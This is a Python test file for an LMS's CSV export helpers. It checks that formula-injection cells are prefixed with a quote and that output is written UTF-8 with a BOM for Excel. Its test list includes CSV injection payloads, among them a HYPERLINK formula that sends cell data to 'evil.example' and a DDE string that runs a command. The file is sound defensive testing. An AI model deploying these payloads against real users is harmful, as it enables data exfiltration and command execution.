"""Every CSV we write: formula prefixes neutralised (OWASP), UTF-8 with BOM for Excel on Chinese Windows."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from lms.files.csvout import csv_text, safe_cell, write_csv_file

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1"]


def test_formula_prefixes_get_a_leading_quote() -> None:
    assert [safe_cell(cell) for cell in ATTACKS] == ["'" + cell for cell in ATTACKS]
    assert [safe_cell(cell) for cell in ("好", "a=b", "", None, -3, 2.5)] == ["好", "a=b", "", "", -3, 2.5]


def test_the_file_opens_in_excel_and_reads_back_as_written(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv_file(path, ["姓名", "comment"], [["钱一", cell] for cell in ATTACKS])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "钱一".encode() in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["姓名", "comment"]
    assert [row[1] for row in rows[1:]] == ["'" + cell for cell in ATTACKS]
    assert not list(tmp_path.glob("*.part"))


def test_header_cells_are_neutralised_too() -> None:
    assert csv_text(["=1"], []) == "\ufeff'=1\r\n"
